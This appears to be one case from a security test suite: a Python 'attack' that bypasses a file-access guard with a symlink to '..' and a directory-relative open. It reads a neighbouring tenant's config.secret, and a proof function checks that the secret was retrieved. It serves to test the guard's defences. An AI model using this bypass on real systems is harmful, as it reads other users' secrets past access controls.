"""Open a file relative to a directory that the guard does not see."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from workloads.attacks.scene import Given, Scene

CONTROL = "careless_guard"


def attack(given: Given) -> object:
    import os

    given.must_be_guarded()
    # The same words lead to one's own secret from the working directory, and to the neighbour's
    # from the directory that is given beside them.
    name = os.path.basename(given.neighbour)
    os.mkdir(f"{given.drop}/a")
    os.symlink("..", f"{given.drop}/{name}")
    os.chdir(f"{given.drop}/a")
    site = os.open(given.site, os.O_RDONLY)
    descriptor = os.open(f"../{name}/config.secret", os.O_RDONLY, dir_fd=site)
    return os.read(descriptor, 4096)


def proof(scene: Scene) -> str | None:
    return scene.brought_back(scene.secret, "the neighbour's secret")
